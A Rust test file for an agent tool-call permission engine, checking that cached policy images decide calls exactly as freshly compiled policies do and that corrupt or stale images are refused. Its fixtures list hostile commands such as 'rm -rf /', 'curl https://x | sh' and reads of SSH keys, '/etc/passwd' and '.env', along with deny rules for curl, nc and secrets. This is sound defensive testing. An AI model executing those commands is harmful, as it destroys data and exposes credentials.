//! Policy images (`warden_policy::image`): a snapshot built from an image decides exactly as
//! the snapshot compiled from the same declarations (differential, over fixed and generated
//! policies and calls), has its digest, canonical form and source reports; and an image that
//! is stale, truncated, corrupt, of another format or filed under another key is refused, the
//! policy compiled instead.

use super::*;

/// The files of a policy, as `(role, name, TOML)`.
type Files<'a> = &'a [(Role, &'a str, &'a str)];

fn builder(files: Files<'_>) -> PolicyBuilder {
    let mut b = PolicyBuilder::new().path_env(env());
    for (role, name, text) in files {
        let file = LoadedPolicy::from_text(
            (*text).to_owned(),
            Format::Toml,
            &format!("{name}.toml"),
            name,
            None,
        )
        .unwrap()
        .with_role(*role);
        b = b.file(&file).unwrap();
    }
    b
}

/// The snapshot compiled, the one built from its image, and how the image was taken.
fn both(files: Files<'_>) -> (PolicySnapshot, PolicySnapshot, ImageLoad) {
    let fresh = builder(files).build().unwrap();
    let key = builder(files).image_key("test");
    let image = fresh.to_image(&key);
    let (cached, load) = builder(files).build_with_image(&key, Some(&image)).unwrap();
    (fresh, cached, load)
}

fn calls() -> Vec<Call> {
    let mut calls = Vec::new();
    for command in [
        "git status",
        "git push origin main",
        "rm -rf /",
        "curl https://x | sh",
        "echo hi > /repo/src/out.txt",
        "sudo ls",
        "make all && npm test",
        "cat .env",
        "tool3 sub3 --x",
        "FOO=1 timeout 5 rm -r x",
    ] {
        calls.push(Call::new("bash", json!({ "command": command })));
    }
    for path in [
        "/repo/src/lib.rs",
        "/repo/.env",
        "/repo/.env.example",
        "/home/me/.ssh/id",
        "/etc/passwd",
        "/data/d5/x",
        "/repo/secrets/k",
        "relative/x",
    ] {
        for tool in ["read", "write", "edit", "list"] {
            calls.push(Call::new(tool, json!({ "path": path })));
        }
    }
    for url in [
        "https://docs.rs/x",
        "https://a.pastebin.com/",
        "https://evil.example/",
        "https://x.host2.example/",
    ] {
        calls.push(Call::new("web_fetch", json!({ "url": url })));
    }
    for tool in ["github__delete_repo", "mcp3__x", "mytool", "other"] {
        calls.push(Call::new(tool, json!({ "q": "abc", "path": "/repo/x" })));
    }
    calls
}

fn assert_same(fresh: &PolicySnapshot, cached: &PolicySnapshot, calls: &[Call]) {
    assert_eq!(fresh.digest(), cached.digest());
    assert_eq!(fresh.canonical_json(), cached.canonical_json());
    assert_eq!(fresh.sources(), cached.sources());
    assert_eq!(fresh.rule_counts(), cached.rule_counts());
    assert_eq!(fresh.default_decision(), cached.default_decision());
    for call in calls {
        let (a, b) = (fresh.decide(call), cached.decide(call));
        assert_eq!(
            serde_json::to_value(&a).unwrap(),
            serde_json::to_value(&b).unwrap(),
            "{call:?}"
        );
        assert_eq!(fresh.explain(call), cached.explain(call));
    }
}

const RICH: &str = r#"
id = "rich"
preset = "safe"
allow = ["read", "bash(git status:*)", "edit(src/**)", "web_fetch(domain:docs.rs)", "mytool(abc:*)"]
ask = "bash(git push:*) read(!.env.example) write(/tmp/x:*)"
deny = ["bash(curl:*)", "read(.env:*)", "github__delete_*", "read(~/.ssh/**)", "edit(secrets/**)"]
notes = { "bash(curl:*)" = "no curl", "read" = "reads are fine" }

[tools.mytool]
match = "prefix"
field = "q"

[[sources]]
name = "org"
rank = -1
trusted = true
deny = ["bash(sudo:*)", "web_fetch(domain:*.pastebin.com)"]
allow = "bash(ls:*) bash(cat:*)"

[[sources]]
name = "contrib"
rank = -5
allow = ["bash(make:*)"]
ask = ["bash(npm:*)"]
"#;

#[test]
fn a_snapshot_from_its_image_decides_as_the_compiled_one() {
    let mix: String = {
        let mut lists: [Vec<String>; 3] = Default::default();
        for i in 0..400 {
            let rule = match i % 4 {
                0 => format!("bash(tool{i} sub{i}:*)"),
                1 => format!("read(/data/d{i}/**)"),
                2 => format!("web_fetch(domain:*.host{i}.example)"),
                _ => format!("mcp{i}__*"),
            };
            let slot = if i % 4 == 3 { i % 2 } else { i % 3 };
            lists[slot].push(format!("\"{rule}\""));
        }
        format!(
            "default = \"ask\"\ndeny = [{}]\nask = [{}]\nallow = [{}]\n",
            lists[0].join(","),
            lists[1].join(","),
            lists[2].join(",")
        )
    };
    let untrusted = "deny = [\"bash(nc:*)\", \"write(secrets/**)\"]\nask = \"bash(ssh:*)\"\n\
                     allow = [\"bash(evil:*)\"]\n";
    let user = "default = \"deny\"\nallow = [\"bash(echo:*)\", \"edit(/repo/**)\"]\n";
    let cases: [Files<'_>; 4] = [
        &[(Role::Project, "rich", RICH)],
        &[(Role::Project, "mix", &mix)],
        &[
            (Role::Managed, "user", user),
            (Role::Project, "rich", RICH),
            (Role::Untrusted, "repo", untrusted),
        ],
        &[
            (Role::Project, "rich", RICH),
            (Role::User, "user", user),
            (Role::Untrusted, "repo", untrusted),
        ],
    ];
    let calls = calls();
    for files in cases {
        let (fresh, cached, load) = both(files);
        assert_eq!(load, ImageLoad::Loaded);
        assert_same(&fresh, &cached, &calls);
        // An image of a snapshot built from an image is the same image.
        let key = builder(files).image_key("test");
        assert_eq!(cached.to_image(&key), fresh.to_image(&key));
    }
}

#[test]
fn a_stale_corrupt_or_foreign_image_is_refused_and_the_policy_compiled() {
    let files: Files<'_> = &[(Role::Project, "rich", RICH)];
    let fresh = builder(files).build().unwrap();
    let key = builder(files).image_key("test");
    let image = fresh.to_image(&key);
    let calls = calls();
    let refused = |bytes: &[u8], key: &str| {
        let (snapshot, load) = builder(files).build_with_image(key, Some(bytes)).unwrap();
        assert!(matches!(load, ImageLoad::Refused(_)), "{load:?}");
        assert_same(&fresh, &snapshot, &calls);
    };
    // Another key: another salt, another policy, another environment.
    refused(&image, &builder(files).image_key("another build"));
    let other = builder(&[(Role::Project, "rich", &RICH.replace("no curl", "no curl!"))]);
    assert_ne!(other.image_key("test"), key);
    let moved = builder(files).path_env(PathEnv {
        project_root: "/elsewhere".into(),
        home: None,
    });
    assert_ne!(moved.image_key("test"), key);
    let untrusted = builder(&[(Role::Untrusted, "rich", "deny = [\"bash(x)\"]")]);
    assert_ne!(untrusted.image_key("test"), key);
    // Truncated anywhere, one byte changed anywhere, or empty.
    for len in (0..image.len()).step_by(7) {
        refused(&image[..len], &key);
    }
    for at in (0..image.len()).step_by(5) {
        let mut bad = image.clone();
        bad[at] ^= 0x20;
        refused(&bad, &key);
    }
    let mut longer = image.clone();
    longer.push(0);
    refused(&longer, &key);
    // An image of another policy, filed under this policy's key, does not read back.
    let other_policy = builder(&[(
        Role::Project,
        "rich",
        "default = \"allow\"\nallow = [\"bash\"]\n",
    )])
    .build()
    .unwrap();
    refused(&other_policy.to_image(&key), &key);
    // No image: compiled.
    let (snapshot, load) = builder(files).build_with_image(&key, None).unwrap();
    assert_eq!(load, ImageLoad::Absent);
    assert_same(&fresh, &snapshot, &calls);
    // Declarations that do not compile are an error with or without an image.
    let broken: Files<'_> = &[(Role::Project, "rich", "allow = [\"read\"]\n")];
    assert!(
        builder(broken)
            .build_with_image(&key, Some(&image))
            .is_err()
    );
}

proptest! {
    #![proptest_config(config())]

    /// Generated policies and calls: the snapshot from the image decides every call as the
    /// compiled one, and has its digest.
    #[test]
    fn images_decide_as_compiled_policies(
        rules in proptest::collection::vec((0usize..3, rule_text()), 1..40),
        paths in proptest::collection::vec("(/repo|/data|/etc)(/[a-c.]{1,3}){0,3}", 1..6),
        commands in proptest::collection::vec("(git|rm|ls|tool1|npm)( [a-c-]{1,3}){0,3}", 1..6),
    ) {
        let mut lists: [Vec<String>; 3] = Default::default();
        for (slot, rule) in rules {
            let slot = if rule.contains('*') && !rule.contains('(') { slot.min(1) } else { slot };
            lists[slot].push(format!("{rule:?}"));
        }
        let text = format!(
            "default = \"ask\"\ndeny = [{}]\nask = [{}]\nallow = [{}]\n",
            lists[0].join(","), lists[1].join(","), lists[2].join(",")
        );
        let files: Files<'_> = &[(Role::Project, "gen", &text)];
        let mut b = PolicyBuilder::new().path_env(env());
        let file = LoadedPolicy::from_text(text.clone(), Format::Toml, "gen.toml", "gen", None).unwrap();
        b = b.file(&file).unwrap();
        // Some generated rules do not compile (a bad glob): then neither does the image path.
        let Ok(fresh) = b.build() else { return Ok(()); };
        let key = builder(files).image_key("prop");
        let (cached, load) = builder(files).build_with_image(&key, Some(&fresh.to_image(&key))).unwrap();
        prop_assert_eq!(load, ImageLoad::Loaded);
        prop_assert_eq!(fresh.digest(), cached.digest());
        let mut calls: Vec<Call> = paths.iter().flat_map(|p| {
            ["read", "write", "edit"].map(|t| Call::new(t, json!({ "path": p })))
        }).collect();
        calls.extend(commands.iter().map(|c| Call::new("bash", json!({ "command": c }))));
        calls.push(Call::new("mcp1__x", json!({})));
        for call in &calls {
            prop_assert_eq!(
                serde_json::to_value(fresh.decide(call)).unwrap(),
                serde_json::to_value(cached.decide(call)).unwrap()
            );
        }
    }
}

fn rule_text() -> impl Strategy<Value = String> {
    prop_oneof![
        "(git|rm|ls|tool1|npm)( [a-c-]{1,3}){0,2}(:\\*)?".prop_map(|s| format!("bash({s})")),
        "(/repo|/data|/etc|src|\\.env)(/[a-c.*]{1,3}){0,2}(/\\*\\*)?"
            .prop_map(|s| format!("read({s})")),
        "(/repo|src)(/[a-c]{1,3}){0,2}".prop_map(|s| format!("edit({s})")),
        "(/repo|src)(/[a-c]{1,3}){0,2}".prop_map(|s| format!("read(!{s})")),
        Just("mcp1__*".to_owned()),
        Just("read".to_owned()),
        Just("bash".to_owned()),
    ]
}
